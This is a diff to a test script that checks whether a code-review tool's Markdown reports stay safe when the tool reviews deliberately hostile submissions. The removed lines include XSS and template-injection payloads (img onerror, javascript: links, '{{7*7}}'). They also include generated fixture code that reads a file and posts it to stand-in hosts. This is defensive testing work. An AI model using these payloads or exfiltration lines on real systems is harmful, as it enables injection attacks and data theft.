@@ -4,14 +4,13 @@ what a submission could have put in: only our elements, only links to lines belo
 what is not code, and no more characters than a comment holds.
 
 usage: markdown.py [FILE...]     without files: the committed sample, and fresh reviews, by the program that CANDOR names, of
-tests/cases/acme-agent and of a submission whose names, lines and disclosure try what they can, into the folder that SCRATCH names.
+tests/cases/acme-agent and of every hostile submission, into the folder that SCRATCH names.
 
 Needs the Python packages of requirements.txt.
 """
 
 import os
 import re
-import subprocess
 import sys
 from html.parser import HTMLParser
 from pathlib import Path
@@ -27,26 +26,6 @@ LINE = re.compile(r"(?!/)(?![^/]*:)[A-Za-z0-9._~%/-]+#L[0-9]+\Z")
 # What a service makes something of, where it is not code: mentions, issues, addresses, commits.
 ACTIVE = re.compile(r"@\w|#\d|\bGH-\d|www\.|://|\b[0-9a-f]{7,40}\b|[<>*_`\[\]]")
 MOST = 60_000
-
-TRICKS = [
-    "``` ``` `` ` x",
-    "<img src=x onerror=alert(1)>",
-    "](javascript:alert(1)) [a",
-    "@everyone #1 GH-2 www.evil.example https://evil.example a@evil.example",
-    "| a | b |",
-    "# heading",
-    "- [x] ![i](https://evil.example/i.png)",
-    "**_~~x~~_**",
-    "<!-- --><details><summary>x",
-    "[^1] $x$ :tada: &lt;b&gt; &#64;all",
-    "\\` \\<b>\\",
-    "`` ` ``",
-    "a`b``c```d",
-    "`" * 16 + "<i>x</i>",
-    "`" * 90 + "<b>x</b>",
-    "\u202egnp\u2066",
-    "{{7*7}} <a href='//evil.example'>x</a>",
-]
 
 
 class Page(HTMLParser):
@@ -81,47 +60,13 @@ class Page(HTMLParser):
         self.errors.append(f"a comment: {data[:60]!r}")
 
 
-def hostile(folder):
-    """A submission that says everything in names, strings, comments and claims."""
-    for number, trick in enumerate(TRICKS):
-        name = trick.replace("/", "\u2215")[:80]
-        place = folder / name
-        place.mkdir(parents=True)
-        # An address of its own for each, so that none is the same finding.
-        address = f"https://h{number}.example/{trick}"
-        (place / f"{name[:40]}.py").write_text(
-            f"import requests\n\n\ndef send_{number}(path):  # {trick}\n    body = open(path + {trick!r}).read()\n"
-            f"    requests.post({address!r}, data=body)\n"
-        )
-    quoted = '"' + "".join(TRICKS).replace("\\", "\\\\").replace('"', '\\"')[:400] + '"'
-    (folder / "submission.toml").write_text(f"vendor = {quoted}\nproduct = {quoted}\nversion = {quoted}\n")
-    item = "[[disclosure]]\nid = \"all\"\ndata = [\"FILE\"]\nchannel = \"egress.http\"\nendpoints = [\"*\"]\n"
-    (folder / "candor.disclosure.toml").write_text(f"{item}purpose = {quoted}\ntrigger = {quoted}\nconsent = {quoted}\n")
-
-
-def comment(submission, name):
-    """The Markdown of a review, as a file."""
-    scratch = Path(os.environ["SCRATCH"])
-    home = scratch / "home"
-    home.mkdir(exist_ok=True)
-    environment = {**os.environ, "HOME": str(home), "XDG_DATA_HOME": str(home), "XDG_CACHE_HOME": str(home)}
-    command = [os.environ["CANDOR"], "review", str(submission), "--output", str(scratch / f"{name}.candor"), "--format", "markdown"]
-    done = subprocess.run(command, env=environment, capture_output=True)
-    if not done.stdout:
-        sys.exit(f"error: the review wrote no Markdown (exit code {done.returncode})\n{done.stderr.decode()}")
-    path = scratch / f"{name}.md"
-    path.write_bytes(done.stdout)
-    return path
-
-
 def files():
     if len(sys.argv) > 1:
         return [Path(argument) for argument in sys.argv[1:]]
     found = [reports.ROOT / "reports/sample/report.md"]
     if "CANDOR" in os.environ and "SCRATCH" in os.environ:
-        folder = Path(os.environ["SCRATCH"]) / "hostile"
-        hostile(folder)
-        found += [comment(reports.ROOT / "tests/cases/acme-agent", "acme"), comment(folder, "hostile-review")]
+        submissions = [reports.ROOT / "tests/cases/acme-agent", *reports.hostile().values()]
+        found += [reports.form(submission, "markdown", ".md") for submission in submissions]
     return found
 
 
